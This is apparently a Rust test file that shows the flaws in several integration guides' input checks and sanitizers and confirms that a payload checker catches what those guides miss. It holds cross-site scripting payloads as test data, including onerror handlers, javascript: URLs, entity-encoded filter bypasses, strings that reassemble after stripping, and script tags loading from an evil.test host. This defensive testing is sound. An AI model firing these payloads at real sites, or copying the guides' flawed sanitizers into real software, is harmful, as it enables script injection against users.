//! The guides' faults in checking and sanitising: each shown at work in the guide's own code, and absent here.
//!
//! A port that stops being wrong makes its test fail, so no test says more about a guide than is so.

mod guide;

use preflight_core::sanitize::clean;
use preflight_core::shape::TextMode;
use preflight_core::{Checked, Kind, Options, Policy, check};
use preflight_tests::{check_payload, good_payload, rules_of};
use serde_json::{Value as Json, json};

/// A card built from fields, as guide 001 builds it.
fn card(fields: &Json) -> Checked {
    let policy = Policy::default();
    let manifest = json!({
        "kind": "rich-card",
        "id": "card",
        "target": {"conversationId": "c"},
        "spec": {"templateId": "t", "fields": fields}
    });
    check(&manifest.to_string(), Options::new(&policy))
}

/// The card guide 001 sends for fields.
fn guide_card(fields: &Json) -> Option<Json> {
    guide::render_and_send(fields.as_object().expect("an object"))
}

fn header(text: &str) -> Checked {
    let mut card = good_payload(Kind::RichCard);
    card["components"][0]["text"] = json!(text);
    check_payload(Kind::RichCard, &card)
}

/// One variable, with the finding about the missing key matrix left out.
fn variable(value: &str) -> (Vec<&'static str>, Option<String>) {
    let checked = check_payload(
        Kind::ParticipantVariables,
        &json!({"attributes": {"referral_code": value}}),
    );
    let mut rules = rules_of(&checked);
    rules.retain(|rule| *rule != "participant-variables/no-key-matrix");
    let sent = checked.verified().map(|payload| {
        let payload: Json = serde_json::from_str(payload.json()).expect("JSON");
        payload["attributes"]["referral_code"]
            .as_str()
            .expect("a string")
            .to_owned()
    });
    (rules, sent)
}

#[test]
fn guide_000_puts_a_label_into_html_unescaped() {
    let label = "Name</label><img src=x onerror=alert(1)><label>";
    let snippet = guide::html_snippet(&[json!({"label": label})]);
    assert!(
        snippet.contains("<img src=x onerror=alert(1)>"),
        "{snippet}"
    );

    let mut widget = good_payload(Kind::WidgetConfiguration);
    widget["preChatForm"]["fields"][0]["label"] = json!(label);
    let checked = check_payload(Kind::WidgetConfiguration, &widget);
    let rules = rules_of(&checked);
    assert!(
        !rules.is_empty() && rules.iter().all(|rule| *rule == "text/markup"),
        "{rules:?}"
    );
    assert!(checked.verified().is_none());
}

#[test]
fn guide_001_never_calls_its_sanitizer() {
    for description in [
        "Hello <script src=https://evil.test/x.js></script>",
        "<iframe src=https://evil.test></iframe>",
        "<form action=https://evil.test><input name=card></form>",
        "<style>*{display:none}</style>",
    ] {
        let fields = json!({"description": description});
        let sent = guide_card(&fields).expect("the guide sends it");
        assert_eq!(sent["components"][1]["text"], description);

        let checked = card(&fields);
        assert!(
            rules_of(&checked).contains(&"markdown/raw-html"),
            "{description}"
        );
        assert!(checked.verified().is_none(), "{description}");
    }
}

#[test]
fn guide_001_checks_no_key_but_text() {
    for (fields, rule) in [
        (
            json!({"actions": [{"label": "<img src=x onerror=alert(1)>"}]}),
            "text/markup",
        ),
        (
            json!({"actions": [{"label": "Go", "type": "postback", "value": "javascript:alert(1)"}]}),
            "text/script-url",
        ),
        (
            json!({"actions": [{"label": "Go", "type": "link", "value": "javascript:alert(1)"}]}),
            "url/scheme",
        ),
        (
            json!({"customer": {"note": "<script>alert(1)</script>"}}),
            "html/element",
        ),
        // Strings in a list have no key at all.
        (json!({"text": ["window.opener"]}), "script/cross-frame"),
        (json!({"<b onclick=alert(1)>": 1}), "text/markup"),
    ] {
        assert!(guide_card(&fields).is_some(), "the guide sends {fields}");
        let checked = card(&fields);
        assert!(
            rules_of(&checked).contains(&rule),
            "{fields}: {:?}",
            rules_of(&checked)
        );
        assert!(checked.verified().is_none(), "{fields}");
    }
}

#[test]
fn guide_001_blocks_innocent_prose() {
    for (text, pattern) in [
        ("Your data: 5 GB", r"data\s*:"),
        ("month=May", r"on\w+\s*="),
        ("Conversion = 5%", r"on\w+\s*="),
        ("javascript: the good parts", r"javascript\s*:"),
        ("Contact = Maria", r"on\w+\s*="),
        ("Metadata : on request", r"data\s*:"),
    ] {
        assert_eq!(guide::dangerous_pattern(text), Some(pattern), "{text}");
        let fields = json!({"title": text, "description": text});
        assert_eq!(guide_card(&fields), None, "{text}");
        assert_eq!(rules_of(&card(&fields)), [""; 0], "{text}");
    }
}

#[test]
fn guide_001_misses_what_browsers_decode() {
    for (text, rule) in [
        (
            "<a href=\"java&#x09;script:alert(1)\">a</a>",
            "html/script-url",
        ),
        ("<a href=\"java\tscript:alert(1)\">a</a>", "html/script-url"),
        (
            "<a href=\"&#106;avascript:alert(1)\">a</a>",
            "html/script-url",
        ),
        (
            "<a href=\"javascript&colon;alert(1)\">a</a>",
            "html/script-url",
        ),
        ("<p style=x:y onclick\u{c}&#61;>a</p>", "html/event-handler"),
        (
            "window[\"opener\"].location = 'https://evil.test'",
            "script/cross-frame",
        ),
        ("window?.opener", "script/cross-frame"),
        ("window&#46;opener", "script/cross-frame"),
        (
            "<a href=https://evil.test target=_blank>a</a>",
            "html/blank-target",
        ),
    ] {
        assert_eq!(guide::dangerous_pattern(text), None, "{text}");
        let checked = header(text);
        assert!(
            rules_of(&checked).contains(&rule),
            "{text}: {:?}",
            rules_of(&checked)
        );
        assert!(checked.verified().is_none(), "{text}");
    }
    // The same in Markdown, where the guide looks for the same patterns.
    for text in [
        "[x](java&#x09;script:alert(1))",
        "[x](&#106;avascript:alert(1))",
    ] {
        let fields = json!({"description": text});
        assert!(guide_card(&fields).is_some(), "{text}");
        assert!(rules_of(&card(&fields)).contains(&"url/scheme"), "{text}");
    }
}

/// The look-ahead stands where it can always be satisfied: right after the quote, before the white space.
#[test]
fn guide_001_fires_on_blank_targets_that_are_safe() {
    let blank = guide::DANGEROUS_PATTERNS[6];
    let safe = [
        "<a href=\"https://example.com\" target=\"_blank\" rel=\"noopener\">a</a>",
        "<a href=\"https://example.com\" target='_blank' rel='nofollow noopener noreferrer'>a</a>",
        "<a rel=\"noopener\" href=\"https://example.com\" target=\"_blank\">a</a>",
    ];
    for text in safe {
        assert_eq!(guide::dangerous_pattern(text), Some(blank), "{text}");
        // Links by HTML are not for messengers, but the reason given is the right one.
        assert_eq!(rules_of(&header(text)), ["html/element"], "{text}");
    }
    let unsafe_blank = "<a href=\"https://example.com\" target=\"_blank\">a</a>";
    assert_eq!(guide::dangerous_pattern(unsafe_blank), Some(blank));
    assert!(rules_of(&header(unsafe_blank)).contains(&"html/blank-target"));
    let prose = "Write target=\"_blank\" to open a new window";
    assert_eq!(guide::dangerous_pattern(prose), Some(blank));
    assert_eq!(rules_of(&header(prose)), [""; 0]);
}

#[test]
fn guide_001_cuts_buttons_without_a_word() {
    let actions: Vec<Json> = (1..=6)
        .map(|n| json!({"label": format!("Action {n}")}))
        .collect();
    let fields = json!({"actions": actions});
    let sent = guide_card(&fields).expect("the guide sends it");
    let buttons = sent["components"][2]["buttons"].as_array().map(Vec::len);
    assert_eq!(buttons, Some(5));
    let checked = card(&fields);
    assert!(checked.verified().is_none(), "{:?}", rules_of(&checked));
}

#[test]
fn guide_002_panics_on_a_host_of_one_label() {
    let allowed = ["s3.amazonaws.com", "*.cloudfront.net"];
    let outcome = std::panic::catch_unwind(|| guide::is_allowed_origin("localhost", &allowed));
    assert!(outcome.is_err());

    let mut widget = good_payload(Kind::AgentWidget);
    widget["manifestUrl"] = json!("https://localhost/manifest.json");
    let checked = check_payload(Kind::AgentWidget, &widget);
    assert_eq!(rules_of(&checked), ["agent-widget/manifest-origin"]);
}

#[test]
fn guide_002_compares_the_last_two_labels_only() {
    // Three labels below the wildcard of a longer suffix: the guide refuses what the list allows.
    assert!(!guide::is_allowed_origin(
        "a.cdn.example.com",
        &["*.cdn.example.com"]
    ));
    // The suffix itself: the guide allows what the wildcard does not cover.
    assert!(guide::is_allowed_origin(
        "cloudfront.net",
        &["*.cloudfront.net"]
    ));
    let mut widget = good_payload(Kind::AgentWidget);
    widget["manifestUrl"] = json!("https://cloudfront.net/manifest.json");
    let checked = check_payload(Kind::AgentWidget, &widget);
    assert_eq!(rules_of(&checked), ["agent-widget/manifest-origin"]);
}

#[test]
fn guide_002_measures_compact_and_sends_indented() {
    const MOST: usize = 10_240;
    let mut widget = good_payload(Kind::AgentWidget);
    widget["settings"]["own"] = json!(vec![1; 4_900]);
    assert!(guide::measured_bytes(&widget) <= MOST);
    assert!(guide::sent_bytes(&widget) > MOST);

    let checked = check_payload(Kind::AgentWidget, &widget);
    let sent = checked.verified().expect("verified").body().len();
    assert_eq!(checked.report().facts.get("bytes"), Some(sent as u64));
    assert!(sent <= MOST, "{sent}");
}

#[test]
fn guide_003_takes_any_url_for_an_origin() {
    for origin in [
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "http://support.example.com",
        "https://user:pass@support.example.com",
        "https://support.example.com/path?query",
        "mailto:a@example.com",
        "x:",
    ] {
        assert!(guide::is_valid_origin(origin), "{origin}");
        let mut channel = good_payload(Kind::Channel);
        channel["securityPolicy"]["allowedOrigins"] = json!([origin]);
        let checked = check_payload(Kind::Channel, &channel);
        assert_eq!(rules_of(&checked), ["channel/origin"], "{origin}");
    }
}

/// Taking something out joins what stood around it into the very thing.
#[test]
fn guide_004_strips_what_then_comes_back() {
    for (value, stripped) in [
        ("javajavascript:script:alert(1)", "javascript:alert(1)"),
        ("<scr<script>x</script>ipt>alert(1)", "<script>alert(1)"),
        ("x oonclick=nclick=alert(1)", "x onclick=alert(1)"),
    ] {
        assert_eq!(guide::sanitize_value(value), stripped.as_bytes(), "{value}");
        // What the guide made of it is refused; what was written is refused or sent as it was written.
        let (rules, _) = variable(stripped);
        assert!(!rules.is_empty(), "{stripped}");
        let (rules, sent) = variable(value);
        assert!(sent.as_deref().is_none_or(|sent| sent == value), "{value}");
        assert_eq!(rules.is_empty(), sent.is_some(), "{value}");
        // Cleaned, nothing comes back either.
        let cleaned = clean(value, TextMode::Plain, &Policy::default()).text;
        assert_eq!(variable(&cleaned).0, [""; 0], "{value} becomes {cleaned}");
    }
}

#[test]
fn guide_004_keeps_a_script_on_two_lines() {
    for value in [
        "<script>\nalert(1)\n</script>",
        "<script>alert(1)</script ",
        "<script src=//evil.test/x.js>",
        "<img src=x>",
        "<svg/onload\u{b}\n=alert(1)>",
    ] {
        assert!(
            guide::sanitize_value(value).starts_with(b"<"),
            "{value} is kept"
        );
        let (rules, sent) = variable(value);
        assert!(rules.contains(&"text/markup"), "{value}: {rules:?}");
        assert_eq!(sent, None);
    }
}

#[test]
fn guide_004_mangles_innocent_prose() {
    for (value, mangled) in [
        ("Conversion = 5%", "C 5%"),
        ("month=May", "mMay"),
        ("JavaScript: the good parts", " the good parts"),
        ("Contact = Maria", "C Maria"),
    ] {
        let sanitized = String::from_utf8(guide::sanitize_value(value)).expect("UTF-8");
        assert_eq!(sanitized, mangled);
        assert_eq!(variable(value), (vec![], Some(value.to_owned())));
    }
}

#[test]
fn guide_004_takes_out_three_control_characters_of_many() {
    let value = "a\0\u{1}\u{2}\u{3}\u{1b}[31m\u{202e}b";
    assert_eq!(
        guide::sanitize_value(value),
        "a\u{3}\u{1b}[31m\u{202e}b".as_bytes()
    );
    let (rules, sent) = variable(value);
    assert_eq!(rules, ["text/control-character", "text/bidi-control"]);
    assert_eq!(sent, None);
    let cleaned = clean(value, TextMode::Plain, &Policy::default()).text;
    assert_eq!(cleaned, "a[31mb");
}

#[test]
fn guide_004_cuts_a_character_in_half() {
    let start = "a".repeat(guide::MAX_VALUE_LENGTH - 1);
    let value = format!("{start}é");
    let cut = guide::sanitize_value(&value);
    assert_eq!(cut.len(), guide::MAX_VALUE_LENGTH);
    assert!(String::from_utf8(cut).is_err(), "no text any more");

    let document = json!({"attributes": {"referral_code": value}}).to_string();
    let policy = Policy::default();
    let options = Options {
        kind: Some(Kind::ParticipantVariables),
        ..Options::new(&policy)
    };
    let checked = check(&document, options);
    let finding = checked
        .report()
        .findings
        .iter()
        .find(|finding| finding.rule == "participant-variables/value-length")
        .expect("the finding");
    let [edit] = finding.fix.as_ref().expect("a fix").edits.as_slice() else {
        panic!("one edit");
    };
    assert_eq!(edit.text, format!("\"{start}\""));
}
